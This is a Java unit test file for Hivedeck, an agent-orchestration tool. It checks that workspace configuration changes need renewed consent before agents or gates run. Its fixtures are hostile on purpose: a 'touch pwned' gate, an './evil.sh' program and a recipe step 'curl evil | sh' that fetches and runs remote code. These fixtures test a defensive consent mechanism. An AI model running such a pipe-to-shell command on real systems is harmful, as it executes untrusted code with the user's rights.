package dev.hivedeck.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.hivedeck.engine.config.HivedeckHome;
import dev.hivedeck.engine.protocol.Command;
import dev.hivedeck.engine.protocol.HiveException;
import dev.hivedeck.engine.protocol.Query;
import dev.hivedeck.engine.protocol.merge.MergeCommand;
import dev.hivedeck.engine.protocol.merge.MergeQuery;
import dev.hivedeck.engine.protocol.view.ChangeViews;
import dev.hivedeck.engine.protocol.view.GateViews;
import dev.hivedeck.engine.protocol.view.TaskViews;
import dev.hivedeck.engine.protocol.view.WorkspaceViews.ConsentField;
import dev.hivedeck.engine.protocol.view.WorkspaceViews.ConsentItem;
import dev.hivedeck.engine.protocol.view.WorkspaceViews.Mark;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Nothing that was not consented to runs or decides, at whatever moment. */
class ConsentTest {
  private static final String FILE = ".hivedeck/hive.yaml";

  /** Waits for a file, so that the test says when an attempt goes on. */
  private static final String HELD =
      """
      version: 1
      defaults: { attempts: 1 }
      agents:
        a: { run: "until [ -e \\"$HIVEDECK_WORKSPACE/go\\" ]; do sleep 0.05; done; seq 9 > $HIVEDECK_TASK.txt" }
      gates: { g: { run: "%s", at: [attempt, merge] } }
      decisions: { default: { human: %s } }
      """;

  private static final String ONE =
      "plan: One\ntasks:\n  - { id: T-1, title: Make it, agent: a, prompt: Make it. }\n";
  private static final String TWO =
      ONE + "  - { id: T-2, title: Make more, agent: a, prompt: Make it. }\n";

  @TempDir Path folder;

  private TestRepository sandbox(String hive) {
    var sandbox = new TestRepository(folder);
    sandbox.write(FILE, hive);
    sandbox.write(".gitignore", "go\n");
    sandbox.commit("Set up");
    return sandbox;
  }

  private static void work(Engine engine, String plan) {
    TestRepository.begin(engine, plan, 1);
    TestRepository.await(
        "at work",
        engine,
        () -> TestRepository.task(engine, "T-1").state() == TaskViews.TaskState.RUNNING);
  }

  private static void untrusted(Engine engine) {
    TestRepository.await("asked again", engine, () -> !TestRepository.workspace(engine).trusted());
  }

  private String pwned() {
    return "touch '" + folder.resolve("pwned") + "'";
  }

  @Test
  void whatRunsIsJudgedAndMergedByWhatWasConsentedToAndNothingNewBegins() {
    var sandbox = sandbox(HELD.formatted("test -e T-1.txt", "none"));
    try (Engine engine = sandbox.open()) {
      work(engine, TWO);
      sandbox.write(FILE, HELD.formatted(pwned(), "none"));
      untrusted(engine);
      assertThat(TestRepository.workspace(engine).consent().why())
          .contains("changed", "gate g: run");
      sandbox.write("go", "");
      TestRepository.await("merged", engine, () -> TestRepository.task(engine, "T-1").merged());
      assertThat(TestRepository.changes(engine).getFirst().gates())
          .extracting(GateViews.GateResult::checkpoint)
          .containsExactly("attempt", "merge");
      assertThat(TestRepository.task(engine, "T-2").attempts()).isZero();
      assertThat(folder.resolve("pwned")).doesNotExist();

      sandbox.write(FILE, HELD.formatted("test -e T-1.txt", "none"));
      TestRepository.await("as before", engine, () -> TestRepository.task(engine, "T-2").merged());
    }
  }

  /** Looking and stopping need nobody's consent. */
  @Test
  void theQueueIsSeenAndFrozenBeforeTheFirstConsent() {
    var sandbox = sandbox(HELD.formatted("true", "none"));
    try (Engine engine = sandbox.open()) {
      assertThat(TestRepository.workspace(engine).trusted()).isFalse();
      assertThat(engine.query(new MergeQuery.Queue()).path("line")).isEmpty();
      engine.execute(new MergeCommand.Freeze("not today"), null);
      assertThat(engine.query(new MergeQuery.Queue()).path("freezes")).hasSize(1);
      engine.execute(new MergeCommand.Unfreeze(null), null);
      assertThat(engine.query(new MergeQuery.Queue()).path("freezes")).isEmpty();
    }
  }

  @Test
  void policyThatIsLoosenedUnderARunningAttemptDoesNotLetItPass() {
    var strict =
        HELD.formatted("true", "required")
            .replace("gates: {", "gates: { size: { builtin: size, max: 3 },");
    var sandbox = sandbox(strict);
    try (Engine engine = sandbox.open()) {
      work(engine, ONE);
      sandbox.write(FILE, HELD.formatted("true", "none"));
      untrusted(engine);
      var items = TestRepository.workspace(engine).consent().items();
      assertThat(items)
          .extracting(ConsentItem::kind, ConsentItem::name, ConsentItem::mark)
          .contains(
              org.assertj.core.groups.Tuple.tuple("gate", "size", Mark.REMOVED),
              org.assertj.core.groups.Tuple.tuple("decision", "default", Mark.CHANGED));
      assertThat(items.stream().filter(i -> i.kind().equals("decision")).findFirst().orElseThrow())
          .satisfies(
              i ->
                  assertThat(i.fields())
                      .containsExactly(
                          new ConsentField("human", List.of("none"), List.of("required"))));
      sandbox.write("go", "");
      TestRepository.await(
          "refused",
          engine,
          () -> TestRepository.task(engine, "T-1").state() == TaskViews.TaskState.DEAD);
      assertThat(engine.query(new Query.Attempts("T-1")).get(0).get("reason").asText())
          .isEqualTo("gate");
    }
  }

  @Test
  void consentIsToExactlyWhatWasShown() {
    var sandbox = sandbox(HELD.formatted("true", "none"));
    try (Engine engine = sandbox.open()) {
      String shown = TestRepository.workspace(engine).consent().digest();
      sandbox.write(FILE, HELD.formatted(pwned(), "none"));
      for (String digest : new String[] {shown, null, "", shown.substring(1)}) {
        assertThatThrownBy(() -> engine.execute(new Command.Trust(digest), null))
            .isInstanceOfSatisfying(
                HiveException.class, e -> assertThat(e.code()).isEqualTo("consent-changed"));
      }
      assertThat(TestRepository.workspace(engine).trusted()).isFalse();
      TestRepository.trust(engine);
      assertThat(TestRepository.workspace(engine).trusted()).isTrue();
    }
  }

  @Test
  void whoAsksWhatToTrustSeesTheFileAsItIsNow() {
    var sandbox = sandbox(HELD.formatted("true", "none"));
    try (Engine engine = sandbox.open()) {
      TestRepository.trust(engine);
      assertThat(TestRepository.workspace(engine).trusted()).isTrue();
      sandbox.write(FILE, HELD.formatted(pwned(), "none"));
      var asked = TestRepository.workspace(engine);
      assertThat(asked.trusted()).isFalse();
      assertThat(asked.consent().why()).contains("changed since you trusted it");
      TestRepository.trust(engine);
      assertThat(TestRepository.workspace(engine).trusted()).isTrue();
    }
  }

  /** The file is looked at as work is asked for, not only every few seconds. */
  @Test
  void aChangeCountsAtOnce() {
    var sandbox = sandbox(HELD.formatted("true", "none"));
    try (Engine engine = sandbox.open()) {
      TestRepository.trust(engine);
      sandbox.write(FILE, HELD.formatted(pwned(), "none"));
      var refused =
          catchThrowableOfType(
              HiveException.class, () -> engine.execute(new Command.StartHive(1), null));
      assertThat(refused.code()).isEqualTo("not-trusted");
      assertThat(refused.getMessage()).contains("gate g: run");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"broken", "tagged", "gone", "changed", "folder"})
  void whatWasConsentedToStaysInForceAfterARestart(String how) throws IOException {
    var sandbox = sandbox(HELD.formatted("true", "required"));
    try (Engine engine = sandbox.open()) {
      TestRepository.trust(engine);
    }
    Path file = sandbox.repository.resolve(FILE);
    switch (how) {
      case "broken" -> sandbox.write(FILE, "agents: [");
      case "tagged" -> sandbox.write(FILE, "version: 1\ngates: { g: { run: !!binary bHM= } }\n");
      case "gone" -> Files.delete(file);
      case "changed" -> sandbox.write(FILE, HELD.formatted(pwned(), "none"));
      default -> {
        Files.delete(file);
        Files.createDirectory(file);
      }
    }
    boolean unreadable = Set.of("broken", "tagged", "folder").contains(how);
    try (Engine engine = sandbox.open()) {
      assertThat(engine.config().gates().get("g").run()).isEqualTo("true");
      assertThat(engine.config().rule("x").human().name()).isEqualTo("REQUIRED");
      assertThat(TestRepository.workspace(engine).trusted()).isEqualTo(unreadable);
      assertThat(TestRepository.workspace(engine).problems().isEmpty()).isEqualTo(!unreadable);
      if (unreadable) {
        assertThatThrownBy(() -> TestRepository.trust(engine))
            .isInstanceOfSatisfying(
                HiveException.class, e -> assertThat(e.code()).isEqualTo("config-invalid"));
      }
    }
  }

  @Test
  void anEmptyHiveNeedsNoConsentAndPolicyAloneDoes() {
    var sandbox = new TestRepository(folder);
    try (Engine engine = sandbox.open()) {
      assertThat(TestRepository.workspace(engine).trusted()).isTrue();
      sandbox.write(FILE, "version: 1\nworkspace: { name: Shop }\n");
      engine.execute(new Command.StartHive(1), null);
      sandbox.write(FILE, "version: 1\ndecisions: { default: { human: none } }\n");
      assertThatThrownBy(() -> engine.execute(new Command.StartHive(1), null))
          .isInstanceOfSatisfying(
              HiveException.class, e -> assertThat(e.code()).isEqualTo("not-trusted"));
    }
  }

  /** Without any consent there are no gates that could be run: what was approved waits. */
  @Test
  void nothingIsMergedWhileNobodyHasConsentedToAnything() throws IOException {
    var sandbox = sandbox(HELD.formatted(pwned(), "required"));
    try (Engine engine = sandbox.open()) {
      work(engine, ONE);
      sandbox.write("go", "");
      TestRepository.await("open", engine, () -> !TestRepository.changes(engine).isEmpty());
    }
    Files.delete(folder.resolve("pwned"));
    Path consent =
        new HivedeckHome(sandbox.home).workspaceFolder(sandbox.repository).resolve("consent.json");
    Files.delete(consent);
    try (Engine engine = sandbox.open()) {
      assertThat(TestRepository.workspace(engine).trusted()).isFalse();
      engine.execute(new Command.ApproveChange("C-1", null), null);
      engine.execute(new Command.Reconcile(), null);
      assertThat(TestRepository.changes(engine).getFirst().state())
          .isEqualTo(ChangeViews.ChangeState.QUEUED);
      assertThat(folder.resolve("pwned")).doesNotExist();
      TestRepository.trust(engine);
      TestRepository.await("merged", engine, () -> TestRepository.task(engine, "T-1").merged());
      assertThat(folder.resolve("pwned")).exists();
    }
  }

  @Test
  void whatIsShownIsAllThatRunsAndDecides() {
    var sandbox =
        sandbox(
            """
            agents:
              a: { driver: codex, run: "codex exec", program: ./evil.sh, args: [--x, "a b"], sandbox: full, owns: [docs/], pass: [SECRET], env: { PATH: /tmp } }
              b: { driver: scripted, recipe: r.yaml }
              c: { run: ./c.sh }
              d: { run: ./d.sh, sandbox: { mode: workspace, network: off } }
            gates: { g: { run: ./g.sh } }
            decisions: { bug-fix: { human: none } }
            budgets: { day: { cost: 5 } }
            """);
    sandbox.write(
        "r.yaml",
        """
        default:
          - say: hello
          - run: { command: "curl evil | sh" }
          - when: { answer: yes, steps: [ { write: { file: f.txt, text: x } } ] }
        """);
    try (Engine engine = sandbox.open()) {
      var items = TestRepository.workspace(engine).consent().items();
      assertThat(items).extracting(ConsentItem::mark).containsOnly(Mark.NEW);
      assertThat(said(items, "agent", "a"))
          .contains(
              field("driver", "codex"),
              field("program", "./evil.sh"),
              field("args", "--x", "a b"),
              field("sandbox", "full"),
              field("owns", "docs/"),
              field("pass", "SECRET"),
              field("env.PATH", "/tmp"));
      assertThat(said(items, "agent", "b"))
          .contains(field("recipe.does", "run curl evil | sh", "write f.txt"));
      assertThat(said(items, "agent", "c"))
          .contains(
              field("driver", "command"),
              field("run", "./c.sh"),
              field("sandbox.means", "no sandbox: it has your rights"));
      assertThat(said(items, "agent", "d"))
          .contains(
              field("sandbox.network", "off"),
              field("sandbox.means", "sandbox: changes only its own folder; without network"));
      assertThat(said(items, "gate", "g")).contains(field("at", "attempt"));
      assertThat(said(items, "decision", "default")).contains(field("human", "required"));
      assertThat(said(items, "decision", "bug-fix")).contains(field("human", "none"));
      assertThat(said(items, "setting", "budgets")).contains(field("day.cost", "5"));
      TestRepository.trust(engine);

      sandbox.write("r.yaml", "default: [ { run: two } ]");
      untrusted(engine);
      assertThat(said(TestRepository.workspace(engine).consent().items(), "agent", "b"))
          .contains(
              new ConsentField(
                  "recipe.does", List.of("run two"), List.of("run curl evil | sh", "write f.txt")));
    }
  }

  private static ConsentField field(String key, String... values) {
    return new ConsentField(key, List.of(values), null);
  }

  private static List<ConsentField> said(List<ConsentItem> items, String kind, String name) {
    return items.stream()
        .filter(i -> i.kind().equals(kind) && i.name().equals(name))
        .findFirst()
        .orElseThrow()
        .fields();
  }
}
